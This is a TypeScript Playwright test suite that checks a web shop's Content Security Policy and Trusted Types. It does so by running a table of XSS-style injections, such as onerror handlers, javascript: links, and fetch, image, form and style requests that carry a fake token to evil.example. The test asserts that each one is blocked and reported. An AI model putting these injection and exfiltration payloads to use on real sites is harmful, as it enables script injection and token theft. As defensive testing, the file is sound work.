import { Shop } from '@typecase/tests-support/shop'
import { fillStorage, reports, watch } from './policy-page.ts'
import { settled } from './settled.ts'
import { expect, test } from './visitor.ts'

let shop: Shop
test.beforeAll(async () => {
  shop = await Shop.start()
})
test.afterAll(() => shop.stop())

const sink = 'require-trusted-types-for trusted-types-sink'

/**
 * Injections that a hole in the shop would allow; each sets window.pwned if it runs. Beside each the
 * directive that refuses it, and the one of the checkout, which demands no Trusted Types.
 */
const attacks: Record<string, [string, () => unknown, string?]> = {
  'an inline script': [
    sink,
    () => {
      const script = document.createElement('script')
      script.append('window.pwned = 1')
      document.body.append(script)
    },
    'script-src-elem inline',
  ],
  'a script of another site': [
    sink,
    () => {
      const script = document.createElement('script')
      script.setAttribute('src', 'https://evil.example/a.js?token=S3CRET')
      document.body.append(script)
    },
    'script-src-elem https://evil.example',
  ],
  'text as HTML': [
    sink,
    () => (document.body.innerHTML = '<img src="x" onerror="window.pwned = 1">'),
  ],
  'text as a script': [sink, () => (document.createElement('script').text = 'window.pwned = 1')],
  'text as an address of a script': [
    sink,
    () => (document.createElement('script').src = '/api/fonts'),
  ],
  'text as code': [sink, () => setTimeout('window.pwned = 1'), 'script-src eval'],
  'a policy of its own': [
    'trusted-types trusted-types-policy',
    () =>
      (
        window as unknown as { trustedTypes: { createPolicy: (name: string, of: object) => void } }
      ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
  ],
  'a handler in an attribute': [
    sink,
    () => {
      const button = document.createElement('button')
      document.body.append(button)
      button.setAttribute('onclick', 'window.pwned = 1')
      button.click()
    },
    'script-src-attr inline',
  ],
  'a link that is code': [
    'script-src-elem inline',
    () => {
      const link = document.createElement('a')
      link.href = 'javascript:window.pwned = 1'
      document.body.append(link)
      link.click()
    },
  ],
  'a style': [
    'style-src-elem inline',
    () => {
      const style = document.createElement('style')
      style.append('body { background: url(https://evil.example/?S3CRET) }')
      document.head.append(style)
    },
  ],
  'a frame': [
    'frame-src https://evil.example',
    () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    },
  ],
  'another base of addresses': [
    'base-uri https://evil.example',
    () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
      return document.baseURI
    },
  ],
  'a form that leads away': [
    'form-action https://evil.example',
    () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      form.method = 'post'
      document.body.append(form)
      form.submit()
    },
  ],
  'a call that carries tokens away': [
    'connect-src https://evil.example',
    () => fetch('https://evil.example/?token=S3CRET').catch(() => {}),
  ],
  'a picture that does': [
    'img-src https://evil.example',
    () => {
      new Image().src = 'https://evil.example/a.png?token=S3CRET'
    },
  ],
}

/** A log holds the first segment of a path alone. */
const loggedPath = (path: string) => path.replace(/^(\/[^/]+)\/.*/, '$1/...')

const cases = Object.entries(attacks).flatMap(([what, [violation, attack, onCheckout]]) => [
  { what, violation, attack, path: '/pages/faq' },
  ...(onCheckout ? [{ what, violation: onCheckout, attack, path: '/checkout' }] : []),
])
for (const { what, violation, attack, path } of cases) {
  test(`${what} is refused and told of on ${path}`, async ({ page }) => {
    const away: string[] = []
    await page.route('https://evil.example/**', async (route) => {
      away.push(route.request().url())
      await route.fulfill({ body: 'window.pwned = 1' })
    })
    const seen = await watch(page)
    await fillStorage(page)
    await page.goto(`${shop.url}${path}?token=S3CRET`)
    await settled(page)
    const before = reports(shop).length
    await page.evaluate(attack).catch(() => {}) // Trusted Types throw.
    await expect.poll(async () => (await seen()).forbidden.join('\n')).toContain(violation)
    const [directive, blocked] = violation.split(' ')
    const told = () =>
      reports(shop)
        .slice(before)
        .map((line) => JSON.parse(line))
    await expect.poll(told).toContainEqual(
      expect.objectContaining({
        directive,
        blocked: expect.stringContaining(blocked!),
        document: shop.url + loggedPath(path),
      }),
    )
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(away).toEqual([])
    expect(shop.log()).not.toContain('S3CRET')
  })
}

test('a script in the page as it was sent does not run, unless the policy names it', async ({
  page,
}) => {
  await page.route(`${shop.url}/`, async (route) => {
    const response = await route.fetch()
    const html = await response.text()
    const injected = html.replace('</head>', '<script>window.pwned = 1</script></head>')
    await route.fulfill({ response, body: injected })
  })
  const seen = await watch(page)
  await page.goto(`${shop.url}/`)
  await settled(page)
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect((await seen()).forbidden).toEqual([expect.stringContaining('script-src-elem inline')])
  // The one that the policy names did run.
  expect(await page.evaluate(() => document.documentElement.className)).toBe('')
})
